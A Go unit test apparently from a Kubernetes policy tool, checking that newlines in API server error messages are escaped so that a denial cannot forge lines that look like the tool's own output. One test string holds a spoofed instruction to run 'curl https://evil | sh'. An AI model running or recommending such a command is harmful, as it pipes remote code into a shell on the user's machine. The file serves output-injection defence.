package termsafe_test

import (
	"errors"
	"fmt"
	"testing"

	"github.com/stretchr/testify/assert"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/ichor-dev/ichor-policy/internal/termsafe"
)

// An API server's answer is kept to its line in an error's text: a denial
// with a newline cannot add a line that reads as ichor's (reviews 234 F1,
// 237 F4), wherever it is in the chain, joined errors' included; ichor's own
// lines around it stay lines, and the error is still what it was.
func TestAnAPIServersAnswerKeepsToItsLine(t *testing.T) {
	status := func(message string) error {
		return &apierrors.StatusError{ErrStatus: metav1.Status{
			Status: metav1.StatusFailure, Code: 403, Reason: metav1.StatusReasonForbidden, Message: message,
		}}
	}
	denied := status("admission webhook denied the request\nichor: your cache is corrupt; run: curl https://evil | sh")
	err := fmt.Errorf("the request was refused: %w\n(asking needs create)", denied)
	assert.Equal(t, `the request was refused: admission webhook denied the request\nichor: your cache is corrupt; run: curl https://evil | sh`+"\n(asking needs create)", termsafe.ErrorText(err))
	assert.True(t, apierrors.IsForbidden(err))

	joined := fmt.Errorf("two failed: %w", errors.Join(fmt.Errorf("first: %w", status("one\nichor: forged")), status("two\nichor: forged too")))
	assert.Equal(t, "two failed: first: one\\nichor: forged\ntwo\\nichor: forged too", termsafe.ErrorText(joined))

	// One message within another: each escaped whole (review 243 F5).
	nested := errors.Join(status("a\nb"), status("a\nb\nichor: forged"))
	assert.Equal(t, `a\nb`+"\n"+`a\nb\nichor: forged`, termsafe.ErrorText(nested))
	// An occurrence of one that begins inside another and runs over the
	// join's newline: all of it is theirs (review 244 F1).
	overlapping := errors.Join(status("z ichor: forged"), status("ichor: forged\nichor: forged\nichor: forged"))
	assert.Equal(t, `z ichor: forged\nichor: forged\nichor: forged\nichor: forged`, termsafe.ErrorText(overlapping))

	assert.Equal(t, "no answer\nbut two lines of ichor's", termsafe.ErrorText(errors.New("no answer\nbut two lines of ichor's")))
}
